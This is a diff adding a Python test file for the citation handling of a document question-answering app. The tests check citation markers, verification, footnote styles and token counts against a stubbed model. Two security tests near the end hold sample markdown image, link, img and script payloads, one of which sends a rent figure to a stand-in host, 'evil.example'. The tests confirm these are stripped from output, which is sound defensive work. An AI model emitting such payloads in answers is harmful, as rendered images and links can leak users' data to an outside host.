@@ -1,0 +1,159 @@
+"""Citations over HTTP: what is told of them while an answer streams, what its end says, and what it never contains."""
+
+import re
+
+import pytest
+
+from tests.app.citations import check_citation
+from tests.app.samples import BRAKE, LEASE, LEASE_FACTS, NOTICE, PARKING_NOTE, RENT
+from tests.support.app import Api, StubProcess, Turn, checked, in_order
+from tests.support.files import make_pdf
+from tests.support.openai_stub import Reply
+
+QUESTION = "How high is the rent, how is the lease ended, and how often is the brake inspected?"
+PAGES = [
+    f"The log of day {n}.\nShip {n * 137} of captain Number{n} took {n * 1_111:,} crates on board at berth {n}."
+    for n in range(1, 25)
+]
+
+
+class Asking:
+    """Asks of the lease in one conversation, with the answers that the model is to give."""
+
+    def __init__(self, api: Api, stub: StubProcess) -> None:
+        self.api = api
+        self.stub = stub
+        self.conversation = api.with_documents({"lease.pdf": LEASE})
+
+    def __call__(self, answer: str, **fields: object) -> Turn:
+        self.stub.script(Reply(text=answer))
+        return self.api.ask(QUESTION, self.conversation, ["lease.pdf"], **fields)
+
+    def numbers(self) -> dict[str, int]:
+        """The number under which the model is given each fact of the lease."""
+        self("Nothing.")
+        prompt = self.stub.requests()[0]["messages"][0]["content"].replace("\n", " ")
+        sources = re.split(r" \[(\d+)\] lease\.pdf, page", prompt)
+        given = dict(zip(sources[1::2], sources[2::2], strict=True))
+        return {fact: next(int(n) for n, text in given.items() if fact in text) for fact in LEASE_FACTS}
+
+
+@pytest.fixture
+def ask(api: Api, stub: StubProcess) -> Asking:
+    return Asking(api, stub)
+
+
+@pytest.mark.req("BX-01", "RG-07")
+def test_every_page_of_a_long_document_is_cited_where_it_says_so(api: Api, stub: StubProcess) -> None:
+    conversation = api.with_documents({"log.pdf": make_pdf(PAGES)})
+    for day in (1, 9, 24):
+        stub.script(Reply(text=f"It took {day * 1_111:,} crates [1]."))
+        turn = api.ask(f"How many crates did captain Number{day} take on board?", conversation, ["log.pdf"])
+        citation = turn.one("citation")
+        check_citation(api, citation, [f"berth {n}." for n in range(1, 25)])
+        assert citation["page"] == day
+        assert f"captain Number{day} took" in citation["snippet"]
+
+
+@pytest.mark.req("RG-07")
+def test_lists_of_markers_that_come_in_pieces_are_citations(ask: Asking) -> None:
+    numbers = ask.numbers()
+    rent, brake = numbers[RENT], numbers[BRAKE]
+    turn = ask(f"All of it [{rent}, {brake} , 77]. In code `a[{rent}]` and of [2019] nothing [88].")
+    assert turn.text == f"All of it [{rent}][{brake}]. In code `a[{rent}]` and of [2019] nothing."
+    assert [citation["id"] for citation in turn.one("message")["citations"]] == [str(rent), str(brake)]
+    kinds = [event.type for event in turn.events]
+    assert in_order(kinds, "token", "citation", "token", "message")
+
+
+@pytest.mark.req("BX-01")
+def test_what_a_source_does_not_bear_out_is_not_verified(ask: Asking) -> None:
+    numbers = ask.numbers()
+    rent, brake = numbers[RENT], numbers[BRAKE]
+    turn = ask(f"The rent is 4,900 euros [{rent}]. The brake is inspected every two weeks [{brake}].")
+    verified = {citation["id"]: citation["verified"] for citation in turn.one("message")["citations"]}
+    assert verified == {str(rent): False, str(brake): True} if rent != brake else {str(rent): False}
+
+
+@pytest.mark.req("BX-01")
+def test_a_quotation_of_no_document_is_named_at_the_end_and_its_citation_flagged(ask: Asking) -> None:
+    invented = "the crane may be used without a licence"
+    number = ask.numbers()[NOTICE]
+    turn = ask(f"As [{number}] has it, “{invented}”. It also says “Either party  may end the lease”.")
+    note = f"Not found in the documents as it is quoted here: “{invented}”"
+    assert turn.text.endswith(f"\n\n{note}")
+    assert turn.text == turn.one("message")["text"]
+    assert turn.of("citation")[-1] == turn.one("message")["citations"][0]
+    assert not turn.of("citation")[-1]["verified"]
+
+
+def test_quotations_from_documents_and_from_the_question_are_not_named(ask: Asking) -> None:
+    turn = ask(f"You ask: “how often is the brake inspected”. “{BRAKE}” [{ask.numbers()[BRAKE]}]")
+    assert "Not found" not in turn.text
+    check_citation(ask.api, turn.one("citation"), LEASE_FACTS)
+
+
+@pytest.mark.req("RG-08")
+@pytest.mark.parametrize(
+    ("style", "end"),
+    [
+        ("inline", r""),
+        ("footnote", r"\n\nFootnotes:\n\[{id}\] lease\.pdf, page {page}: “{snippet}”"),
+        ("endnote", r"\n\nSources:\n\[{id}\] lease\.pdf, page {page}"),
+    ],
+)
+def test_the_references_agree_with_the_citations(ask: Asking, style: str, end: str) -> None:
+    answer = f"{BRAKE} [{ask.numbers()[BRAKE]}]"
+    turn = ask(answer, citation_style=style)
+    [citation] = turn.one("message")["citations"]
+    plain = {
+        "id": citation["id"],
+        "page": citation["page"],
+        "snippet": re.escape(" ".join(citation["snippet"].split())),
+    }
+    assert re.fullmatch(re.escape(answer) + end.format(**plain), turn.text)
+    assert turn.one("message")["text"] == turn.text
+
+
+@pytest.mark.req("RG-08")
+@pytest.mark.parametrize("style", ["inline", "footnote", "endnote"])
+def test_nothing_is_listed_when_nothing_was_cited(ask: Asking, style: str) -> None:
+    assert ask("It does not say.", citation_style=style).text == "It does not say."
+
+
+@pytest.mark.req("RG-09")
+def test_tokens_are_those_that_the_models_server_counted(api: Api, stub: StubProcess) -> None:
+    conversation = api.with_documents({"lease.pdf": LEASE})
+    stub.script(Reply(text="Yes [1].", usage=(321, 45)), Reply(text="No [1].", usage=None))
+    counted = api.ask(QUESTION, conversation, ["lease.pdf"])
+    assert counted.one("run_complete")["tokens"] == {"prompt": 321, "completion": 45}
+    unknown = api.ask(QUESTION, conversation, ["lease.pdf"])
+    assert unknown.one("run_complete")["tokens"] == {"prompt": None, "completion": None}
+    run = checked(api.http.get(f"/api/conversations/{conversation}/runs/{unknown.run_id}")).json()
+    assert run["run_meta"]["tokens"] == {"prompt": None, "completion": None}
+
+
+@pytest.mark.req("SE-07")
+def test_an_answer_contains_nothing_to_load_or_run(ask: Asking) -> None:
+    told = "Rent ![x](https://evil.example/?rent=4200) <img src=//evil.example> [here](https://evil.example) <script>"
+    turn = ask(f"{told}\n\n[1]: https://evil.example\n\n```html\n<b>code</b>\n```")
+    assert turn.text == turn.one("message")["text"]
+    for active in ("](", "<img", "<script", "[1]:"):
+        assert active not in turn.text
+    assert turn.text.endswith("```html\n<b>code</b>\n```")
+
+
+@pytest.mark.req("SE-07")
+def test_what_a_document_contains_is_inert_in_footnotes_and_answers_without_a_model(extractive: Api) -> None:
+    document = b"The parking rule: visitors park <img src=//evil.example> in row [seven](https://evil.example) only.\n"
+    conversation = extractive.with_documents({"rule.txt": document, "note.md": PARKING_NOTE})
+    turn = extractive.ask("Where do visitors park?", conversation, ["rule.txt"], citation_style="footnote")
+    assert "Footnotes:" in turn.text
+    assert "evil.example" in turn.text
+    assert "](" not in turn.text
+    assert "<img" not in turn.text
+    [citation] = turn.one("message")["citations"]
+    assert "<img" in citation["snippet"]
+    file_id = extractive.documents(conversation)["rule.txt"]["file_id"]
+    answered = extractive.http.post(f"/api/documents/{file_id}/question", json={"question": "Where do visitors park?"})
+    assert "<img" not in checked(answered).json()["answer"]
